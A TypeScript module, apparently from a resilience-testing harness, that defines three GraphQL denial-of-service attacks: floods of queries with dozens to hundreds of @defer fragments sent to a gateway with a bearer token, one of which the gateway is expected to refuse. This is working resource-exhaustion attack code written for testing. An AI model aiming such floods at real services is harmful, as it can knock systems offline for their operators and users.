import { type Attack, refusedDocument } from '../attack.ts';
import type { Attacker } from '../attacker/attacker.ts';

/** Inline fragments, each deferred and labelled, of fields that take a fetch. */
function deferred(count: number, salt: number): string {
  const parts = Array.from(
    { length: count },
    (_, n) => `... @defer(label: "l${salt}_${n}") { availability { available } }`,
  );
  return `query ($id: ID!) { variant(id: $id) { product { variants { id ${parts.join(' ')} } } } }`;
}

function askInParts(
  { send, target: { gateway, token, variantIds } }: Pick<Attacker, 'send' | 'target'>,
  query: string,
): Promise<void> {
  return send({
    url: `${gateway}/graphql`,
    headers: {
      'content-type': 'application/json',
      accept: 'multipart/mixed;deferSpec=20220824, application/json',
      authorization: `Bearer ${token}`,
    },
    body: JSON.stringify({ query, variables: { id: variantIds[0] } }),
  });
}

export const defer: readonly Attack[] = [
  {
    name: 'deferred-fragments',
    sentence: 'defers 60 fragments with a label each in documents of which no two are alike',
    send: (attacker) =>
      attacker.flood({ atOnce: 4 }, (number) => askInParts(attacker, deferred(60, number))),
  },
  {
    name: 'deferred-lists',
    sentence: 'defers 30 fragments of each of 100 products, and of their variants',
    send: (attacker) => {
      const parts = Array.from(
        { length: 15 },
        (_, n) =>
          `... @defer(label: "p${n}") { title variants { id ... @defer(label: "v${n}") { availability { available } } } }`,
      );
      const query = `{ products(first: 100) { nodes { id ${parts.join(' ')} } } }`;
      return attacker.flood({ atOnce: 4 }, () => askInParts(attacker, query));
    },
  },
  {
    name: 'deferred-beyond-all',
    sentence: 'defers 500 fragments',
    send: (attacker) =>
      attacker.flood({ atOnce: 4 }, (number) => askInParts(attacker, deferred(500, number))),
    answers: refusedDocument,
  },
];
